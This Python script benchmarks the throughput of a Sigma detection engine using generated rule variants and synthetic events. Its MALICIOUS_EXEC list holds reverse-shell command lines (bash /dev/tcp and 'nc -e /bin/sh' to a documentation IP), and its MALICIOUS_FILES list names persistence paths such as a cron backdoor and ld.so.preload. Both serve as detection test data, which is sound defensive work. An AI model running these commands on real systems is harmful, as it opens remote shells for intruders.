"""Benchmark: Sigma matching throughput with ≥100 rules on a realistic event mix.

    .venv/bin/python bench/detection.py [--variants 9] [--events 100000] [--runs 5]

Rules are the shipped ones plus generated variants with the same structure (every string
value gets a variant marker, so each variant costs what the original costs but fires on its
own events only). Events are ~60% exec, ~30% file, ~10% network, mostly benign, with a small
share of hits. Prints events/s per run and the median.
"""

from __future__ import annotations

import argparse
import json
import random
import statistics
import sys
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any

import yaml

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from backplane.schema import Action, Tier, new_event
from controller.detection import BUILTIN_RULES, DetectionEngine

HOST = {"id": "bench-host", "name": "bench-01"}


def _mark(value: Any, tag: str) -> Any:
    if isinstance(value, str):
        return value + tag
    if isinstance(value, list):
        return [_mark(v, tag) for v in value]
    return value


def write_variants(folder: Path, variants: int) -> int:
    """Copy each shipped rule ``variants`` times with marked string values; returns count."""
    n = 0
    for path in sorted(BUILTIN_RULES.glob("*.yml")):
        rule = yaml.safe_load(path.read_text())
        for i in range(variants):
            tag = f"v{i}"
            copy = dict(rule)
            copy["id"] = str(uuid.uuid5(uuid.NAMESPACE_URL, f"{path.name}#{i}"))
            copy["title"] = f"{rule['title']} (variant {i})"
            detection: dict[str, Any] = {}
            for name, block in rule["detection"].items():
                if name == "condition":
                    detection[name] = block
                    continue
                items = block if isinstance(block, list) else [block]
                marked = [
                    {k: (v if "cidr" in k or isinstance(v, int) else _mark(v, tag))
                     for k, v in item.items()}
                    for item in items
                ]  # fmt: skip
                detection[name] = marked if isinstance(block, list) else marked[0]
            copy["detection"] = detection
            (folder / f"{path.stem}_{tag}.yml").write_text(yaml.safe_dump(copy, sort_keys=False))
            n += 1
    return n


BENIGN_EXEC = [
    ("/usr/bin/ls", "ls -la /var/log"),
    ("/usr/bin/git", "git -C /srv/app status --porcelain"),
    ("/usr/bin/python3", "python3 -m pip install --upgrade requests==2.32.0"),
    ("/usr/bin/grep", "grep -rn TODO /home/alice/src/project --include=*.py"),
    ("/usr/bin/curl", "curl -fsS -o /tmp/health.json http://127.0.0.1:8080/health"),
    ("/usr/bin/bash", "bash -c for f in /etc/cron.d/*; do echo $f; done"),
    ("/usr/bin/systemctl", "systemctl status nginx.service --no-pager"),
    ("/usr/sbin/sshd", "sshd: alice [priv]"),
    ("/usr/bin/cc", "cc -O2 -c -o /tmp/build/x.o x.c"),
    ("/usr/bin/chmod", "chmod 644 /home/alice/notes.txt"),
]
MALICIOUS_EXEC = [
    ("/usr/bin/bash", "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444"),
    ("/tmp/.x/payload", "/tmp/.x/payload --daemon"),
]
BENIGN_FILES = [
    "/var/log/nginx/access.log",
    "/home/alice/src/project/main.py",
    "/tmp/build/x.o",
    "/var/lib/apt/lists/partial/x",
    "/etc/hostname",
    "/home/alice/.bash_history",
]
MALICIOUS_FILES = ["/etc/cron.d/backdoor", "/root/.ssh/authorized_keys", "/etc/ld.so.preload"]


def _proc(image: str, cmd: str, rnd: random.Random) -> dict[str, Any]:
    pid = rnd.randint(300, 400000)
    return {
        "process": {
            "pid": pid,
            "entity_id": f"e{pid}",
            "name": image.rsplit("/", 1)[-1],
            "executable": image,
            "args": cmd.split(),
            "command_line": cmd,
            "working_directory": "/home/alice",
            "parent": {"pid": 1234, "executable": "/usr/bin/bash", "command_line": "-bash"},
        },
        "user": {"id": "1000", "name": "alice"},
    }


def make_events(count: int, seed: int = 7) -> list[dict[str, Any]]:
    rnd = random.Random(seed)
    out = []
    for _ in range(count):
        r = rnd.random()
        bad = rnd.random() < 0.01
        if r < 0.6:
            image, cmd = rnd.choice(MALICIOUS_EXEC if bad else BENIGN_EXEC)
            ev = new_event(Action.EXEC, host=HOST, tier=Tier.TRACEPOINT)
            ev.update(_proc(image, cmd, rnd))
        elif r < 0.9:
            path = rnd.choice(MALICIOUS_FILES if bad else BENIGN_FILES)
            action = rnd.choice([Action.FILE_WRITE, Action.FILE_CREATE, Action.FILE_RENAME])
            ev = new_event(action, host=HOST, tier=Tier.TRACEPOINT)
            ev.update(_proc("/usr/bin/python3", "python3 worker.py", rnd))
            ev["file"] = {"path": path, "name": path.rsplit("/", 1)[-1]}
        else:
            image = "/usr/bin/bash" if bad else rnd.choice(["/usr/bin/curl", "/usr/sbin/nginx"])
            ev = new_event(Action.CONNECT, host=HOST, tier=Tier.TRACEPOINT)
            ev.update(_proc(image, image, rnd))
            ev["network"] = {"transport": "tcp", "type": "ipv4", "direction": "egress"}
            ev["destination"] = {"ip": f"198.51.100.{rnd.randint(1, 254)}",
                                 "port": 4444 if bad else rnd.choice([80, 443, 5432])}  # fmt: skip
        out.append(ev)
    return out


def run(engine: DetectionEngine, events: list[dict[str, Any]]) -> tuple[float, int]:
    match = engine.match
    hits = 0
    t0 = time.perf_counter()
    for ev in events:
        hits += len(match(ev))
    return len(events) / (time.perf_counter() - t0), hits


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--variants", type=int, default=9, help="generated copies per shipped rule")
    ap.add_argument("--events", type=int, default=100_000)
    ap.add_argument("--runs", type=int, default=5)
    ap.add_argument("--json", action="store_true", help="print one JSON line")
    args = ap.parse_args()

    with tempfile.TemporaryDirectory() as tmp:
        generated = write_variants(Path(tmp), args.variants)
        engine = DetectionEngine()
        t0 = time.perf_counter()
        report = engine.load([tmp])
        load_s = time.perf_counter() - t0
    if not report.ok:
        for p in report.problems:
            print(p, file=sys.stderr)
        return 1
    events = make_events(args.events)
    rates = []
    hits = 0
    for _ in range(args.runs):
        rate, hits = run(engine, events)
        rates.append(rate)
    result = {
        "rules": len(report.loaded),
        "generated": generated,
        "load_seconds": round(load_s, 3),
        "rules_per_action": engine.actions(),
        "events": len(events),
        "hits_per_run": hits,
        "runs_events_per_s": [round(r) for r in rates],
        "median_events_per_s": round(statistics.median(rates)),
        "median_us_per_event": round(1e6 / statistics.median(rates), 2),
    }
    if args.json:
        print(json.dumps(result))
    else:
        for k, v in result.items():
            print(f"{k:>22}: {v}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
